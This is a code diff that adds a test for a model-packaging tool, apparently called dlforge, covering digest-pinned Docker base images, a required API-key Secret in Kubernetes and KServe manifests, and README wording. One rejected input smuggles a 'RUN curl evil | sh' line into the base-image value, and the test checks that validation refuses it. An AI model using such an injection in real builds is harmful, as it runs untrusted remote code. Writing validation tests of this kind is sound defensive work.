@@ -427,3 +427,40 @@ def read(path: Path) -> str:
 
 def dlforge_version() -> str:
     return version("dlforge")
+
+
+DIGEST = "sha256:" + "0123456789abcdef" * 4
+
+
+def test_base_image_pinned_by_digest_and_a_required_api_key(trained_run: dlforge.Run, wheel: Path,
+                                                             tmp_path: Path) -> None:
+    base = f"python:{sys.version_info.major}.{sys.version_info.minor}-slim@{DIGEST}"
+    context = package_run(trained_run.path, tmp_path / "pinned", wheel=wheel, base_image=base, api_key=True)
+    text = (context / "Dockerfile").read_text()
+    assert re.search(r"^FROM (\S+)$", text, re.M).group(1) == base
+    assert f'org.opencontainers.image.base.digest="{DIGEST}"' in text and "moving tag" not in text
+    for manifest in ("k8s/deployment.yaml", "kserve/inferenceservice.yaml"):
+        doc = load_yaml(context / manifest)
+        spec = doc["spec"]["template"]["spec"] if doc["kind"] == "Deployment" else doc["spec"]["predictor"]
+        env = {e["name"]: e for e in spec["containers"][0]["env"]}
+        ref = env["DLFORGE_API_KEY"]["valueFrom"]["secretKeyRef"]
+        assert ref == {"name": f"{dns_label('digits-test')}-api-key", "key": "api-key"}  # no optional: required
+    assert kubernetes_validate.validate(load_yaml(context / "k8s" / "deployment.yaml"), K8S_VERSION, strict=True)
+    readme = (context / "README.md").read_text()
+    assert "is required (packaged with `--api-key`)" in readme and "# required" in readme
+
+    # Not asked: the tag moves (the Dockerfile says so and how to pin it), and the Secret stays optional.
+    text = (package_run(trained_run.path, tmp_path / "moving", wheel=wheel) / "Dockerfile").read_text()
+    assert re.search(r"^# python:\S+-slim is a moving tag: .*\n(#.*\n)*FROM python:\S+-slim$", text, re.M)
+    assert "--base-image python:" in text and "base.digest" not in text
+    assert "is optional: without it the server answers everyone" in (tmp_path / "moving" / "README.md").read_text()
+
+    for bad in ("python:3.12-slim\nRUN curl evil | sh", "python:3.12-slim@sha256:abc", "Python:3.12"):
+        with pytest.raises(DlforgeError, match=r"^--base-image .*: not an image reference"):
+            package_run(trained_run.path, tmp_path / "bad", wheel=wheel, base_image=bad)
+    proc = subprocess.run([sys.executable, "-m", "dlforge.cli", "package", str(trained_run.path), "--out",
+                           str(tmp_path / "cli"), "--wheel", str(wheel), "--base-image", base, "--api-key"],
+                          capture_output=True, text=True, timeout=300)
+    assert proc.returncode == 0, proc.stderr
+    assert f"FROM {base}\n" in (tmp_path / "cli" / "Dockerfile").read_text()
+    assert "optional" not in (tmp_path / "cli" / "k8s" / "deployment.yaml").read_text()
